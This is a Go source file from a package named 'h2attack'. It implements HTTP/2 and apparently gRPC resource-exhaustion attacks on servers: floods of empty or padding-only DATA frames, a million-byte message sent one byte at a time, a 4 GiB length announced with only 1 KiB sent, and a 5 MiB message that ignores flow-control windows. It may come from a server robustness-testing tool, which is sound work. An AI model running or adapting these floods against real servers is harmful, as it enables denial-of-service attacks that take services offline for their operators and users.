package h2attack

import (
	"context"
	"encoding/binary"

	"golang.org/x/net/http2/hpack"
)

// onStream opens a stream and repeats a frame over it.
func onStream(ctx context.Context, dial Dialer, o Options, frame func(w *wire, stream uint32) error) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	w.listen()
	stream := w.call(false)
	w.repeat(func(int) { w.sent(frame(w, stream)) })
	return w.finish()
}

// EmptyDataFlood sends DATA without data, which no window stops.
func EmptyDataFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return onStream(ctx, dial, o, func(w *wire, stream uint32) error { return w.fr.WriteData(stream, false, nil) })
}

// PaddedDataFlood sends DATA that is padding alone (RFC 9113 section 6.1).
func PaddedDataFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return onStream(ctx, dial, o, func(w *wire, stream uint32) error {
		return w.fr.WriteDataPadded(stream, false, nil, make([]byte, 255))
	})
}

// TinyDataFlood sends a message of a million bytes byte by byte: the server keeps
// each in a buffer of its own until the message is complete.
func TinyDataFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	head := binary.BigEndian.AppendUint32([]byte{0}, 1<<20)
	i := 0
	return onStream(ctx, dial, o, func(w *wire, stream uint32) error {
		b := head[i : i+1]
		i = min(i+1, len(head)-1)
		return w.fr.WriteData(stream, false, b)
	})
}

// message sends one, as a length that is announced and what really comes.
func message(ctx context.Context, dial Dialer, o Options, compressed byte, announced uint32, size int, fields ...hpack.HeaderField) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	w.listen()
	stream := w.call(false, fields...)
	w.waitFor = 1
	payload := append(binary.BigEndian.AppendUint32([]byte{compressed}, announced), make([]byte, size)...)
	const frame = 16 << 10
	for len(payload) > 0 && w.err == nil {
		n := min(frame, len(payload))
		w.sent(w.fr.WriteData(stream, n == len(payload), payload[:n]))
		payload = payload[n:]
	}
	return w.finish()
}

// GzipMessage sends a message that says it is compressed.
func GzipMessage(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return message(ctx, dial, o, 1, 32, 32, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
}

// GiantLength announces a message of 4 GiB and sends 1 KiB.
func GiantLength(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return message(ctx, dial, o, 0, 1<<32-1, 1<<10)
}

// LargeMessage sends a message of 5 MiB, minding no window.
func LargeMessage(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return message(ctx, dial, o, 0, 5<<20, 5<<20)
}
